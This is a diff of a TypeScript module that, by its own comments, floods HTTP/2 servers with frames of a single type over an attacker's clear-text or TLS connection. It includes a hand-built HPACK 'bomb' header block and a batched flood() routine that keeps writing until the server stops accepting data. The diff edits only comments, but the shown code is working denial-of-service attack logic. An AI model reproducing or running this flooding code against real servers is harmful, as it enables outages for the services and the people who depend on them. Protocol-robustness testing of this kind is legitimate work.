@@ -1,4 +1,4 @@
-// Floods of HTTP/2 frames, each of one kind, on a connection that the attacker holds: in clear text, or inside TLS.
+// Floods of HTTP/2 frames, each of one kind, on an attacker's connection in clear text or TLS.
 
 import type { Socket } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
@@ -14,14 +14,14 @@ import {
 } from './http2-frames.ts';
 
 export interface Flood {
-  /** Of its parts. */
+  /** Number of parts. */
   readonly count: number;
-  /** Makes the n-th. */
+  /** Returns the n-th part. */
   readonly part: (n: number) => Buffer;
 }
 
 const WHOLE = END_HEADERS | END_STREAM;
-/** Indexed 62: the first entry of the table that the bomb has filled. */
+/** Index 62: the first entry of the dynamic table, filled by the bomb. */
 const BOMB = Buffer.concat([
   REQUEST,
   Buffer.from([0x40, 1, 98, 0x7f, 0xa1, 0x1e]),
@@ -104,7 +104,7 @@ export const FLOODS: Readonly<Record<string, Flood>> = {
 
 const PER_WRITE = 200;
 
-/** Sends it as long as it is taken; resolves to how many of its parts were. */
+/** Sends the flood while it is accepted; resolves to the number of parts sent. */
 export async function flood(socket: Socket, { count, part }: Flood): Promise<number> {
   let taken = 0;
   socket.on('data', () => undefined);
@@ -112,7 +112,7 @@ export async function flood(socket: Socket, { count, part }: Flood): Promise<num
   for (let n = 0; n < count && isOpen; n += PER_WRITE) {
     const length = Math.min(PER_WRITE, count - n);
     const some = Array.from({ length }, (_, index) => part(n + index));
-    // Some is never read by a host that has given the connection up.
+    // A host that has abandoned the connection leaves some bytes unread.
     isOpen = await Promise.race([pour(socket, Buffer.concat(some)), wait(2_000, false)]);
     if (isOpen) taken += length;
   }
